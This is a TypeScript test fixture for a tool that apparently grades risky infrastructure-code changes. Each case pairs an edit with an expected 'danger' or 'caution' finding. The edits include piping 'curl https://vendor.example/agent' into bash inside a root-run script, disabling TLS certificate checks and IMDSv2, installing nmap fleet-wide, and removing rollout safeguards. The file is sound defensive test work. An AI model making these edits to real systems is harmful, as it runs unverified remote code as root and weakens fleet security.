/** What runs on machines, and how fast it gets there. */
import { after, edit, type Graded } from '../graded';

const fleet = 'lib/machine/fleet.ts';
const agent = 'lib/collect/agent.ts';
const prod = 'config/prod.ts';

export const root: readonly Graded[] = [
  {
    name: 'another package on every instance',
    edits: [edit(fleet, "packages: ['jq', 'unzip',", "packages: ['jq', 'unzip', 'nmap',")],
    grade: 'danger',
    finds: { 'runs-as-root': 'nmap' },
  },
  {
    name: 'a script of instances does more',
    edits: [
      after('lib/machine/instance-files/drain.sh', 'set -euo pipefail', 'curl -s https://vendor.example/agent | bash'),
    ],
    grade: 'danger',
    finds: { 'runs-as-root': 'curl -s https://vendor.example/agent | bash' },
  },
  {
    name: 'another image',
    edits: [edit(prod, 'ami-0123456789abcdef0', 'ami-0fedcba9876543210')],
    grade: 'caution',
    finds: { 'machine-image': 'ami-0fedcba9876543210' },
  },
  {
    name: 'all service nodes at once',
    edits: [edit(agent, 'maxConcurrency: `${agent.concurrencyPercent}%`', "maxConcurrency: '100%'")],
    grade: 'caution',
    finds: { 'roll-out-faster': 'MaxConcurrency' },
  },
  {
    name: 'errors do not stop a roll-out',
    edits: [edit(agent, 'maxErrors: `${agent.errorPercent}%`', "maxErrors: '100%'")],
    grade: 'caution',
    finds: { 'roll-out-faster': 'MaxErrors' },
  },
  {
    name: 'the document runs on every instance',
    edits: [
      edit(
        agent,
        'targets: [{ key: `tag:${agent.tagKey}`, values: [agent.tagValue ?? environment] }],',
        "targets: [{ key: 'InstanceIds', values: ['*'] }],",
      ),
    ],
    grade: 'danger',
    finds: { 'runs-elsewhere': 'InstanceIds' },
  },
  {
    name: 'old instances go before new ones have come',
    edits: [
      edit(fleet, 'minHealthyPercentage: 100,', 'minHealthyPercentage: 0,'),
      edit(fleet, 'maxHealthyPercentage: 150,', 'maxHealthyPercentage: 100,'),
    ],
    grade: 'caution',
    finds: { 'roll-out-faster': 'MinHealthyPercentage' },
  },
  {
    name: 'no alarm rolls a refresh back',
    edits: [edit(fleet, '...(props.rollbackDisabled\n', "...(props.tier !== 'relay' || props.rollbackDisabled\n")],
    grade: 'caution',
    finds: { 'roll-out-faster': 'Alarm' },
  },
  {
    name: 'a client of the store that verifies nobody',
    edits: [
      edit(
        'lib/store/client.ts',
        'const ssl = { rejectUnauthorized: true,',
        'const ssl = { rejectUnauthorized: false,',
      ),
    ],
    grade: 'danger',
    finds: { 'program-reckless': 'rejectUnauthorized: false' },
  },
  {
    name: 'other code of a function',
    edits: [
      edit(
        'lib/machine/certificates.issue.ts',
        'export const validityDays = 4 * renewalDays;',
        'export const validityDays = 40 * renewalDays;',
      ),
    ],
    grade: 'caution',
    finds: { 'program-changes': 'renewalDays' },
  },
  {
    name: 'commands without IMDSv2',
    edits: [edit(fleet, 'requireImdsv2: true,', 'requireImdsv2: false,')],
    grade: 'danger',
    finds: { 'encryption-weakens': 'HttpTokens' },
  },
];
